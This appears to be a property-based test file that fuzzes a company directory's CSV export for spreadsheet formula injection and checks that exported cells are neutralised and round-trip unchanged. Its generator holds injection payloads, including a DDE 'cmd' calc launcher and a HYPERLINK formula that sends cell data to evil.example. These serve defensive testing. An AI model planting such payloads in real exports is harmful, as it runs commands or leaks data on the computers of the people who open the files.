import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect, test, vi } from "vitest";
import { cases } from "../fuzz-runs.ts";
import { COMPANY } from "../fuzzing/endpoints.ts";
import { asAdmin, ask, json } from "../http-client.ts";

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
/** Numbers of ours: below zero they begin like a formula, and are none. */
const NUMBERS = new Set(["latitude", "longitude"]);

const formula = fc
  .tuple(
    fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", '"=', " =", "\t=", "\r=", "\n="),
    fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1)', "1+1", ""),
    fc.constantFrom("", '"', ",=1", "\n=1", ";=1"),
  )
  .map((parts) => parts.join(""));

const exported = async (): Promise<Record<string, string>[]> => {
  const { body } = await ask({ path: "/api/companies.csv", headers: asAdmin() });
  return parse(body, { bom: true, columns: true });
};

test("formula injection: no cell of an exported file begins a formula, and the file comes back as it was", async () => {
  await fc.assert(
    fc.asyncProperty(formula, async (text) => {
      const fields = { ...COMPANY, name: text, location: text, county: text, description: text, phone: text };
      const more = {
        services: text,
        operatingHours: text,
        insurance: text,
        coverage: text,
        licenseNumber: text,
      };
      const added = await ask({ path: "/api/companies", ...json({ ...fields, ...more }, asAdmin()) });
      expect(added.status).toBe(201);
      const rows = await exported();
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          if (!NUMBERS.has(column))
            expect([column, cell]).not.toEqual([column, expect.stringMatching(FORMULA)]);
    }),
    cases(),
  );
  const headers = { ...asAdmin(), "content-type": "text/csv" };
  // Other tests change companies meanwhile.
  await vi.waitFor(
    async () => {
      const { body } = await ask({ path: "/api/companies.csv", headers: asAdmin() });
      const report = JSON.parse(
        (await ask({ path: "/api/companies/import", method: "POST", headers, body })).body,
      );
      expect(report.counts).toMatchObject({ new: 0, changed: 0, refused: 0 });
    },
    { timeout: 20_000 },
  );
});
